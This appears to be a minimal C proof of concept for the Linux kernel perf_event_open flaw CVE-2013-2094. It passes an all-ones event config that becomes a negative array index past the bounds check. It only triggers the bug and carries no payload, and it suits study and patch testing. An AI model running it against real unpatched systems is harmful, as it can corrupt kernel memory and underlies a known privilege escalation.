/*
 * Opens a software event whose 64-bit number has all lower 32 bits set. Kept in a signed int it is -1, passes the check of the upper
 * bound, and becomes the index of an array (CVE-2013-2094).
 */
#include <linux/perf_event.h>
#include <stdio.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

int main(void)
{
	struct perf_event_attr attr;

	memset(&attr, 0, sizeof(attr));
	attr.type = PERF_TYPE_SOFTWARE;
	attr.size = sizeof(attr);
	attr.config = 0xffffffff;
	printf("perf_event_open: %ld\n", syscall(SYS_perf_event_open, &attr, 0, -1, -1, 0));
	return 0;
}
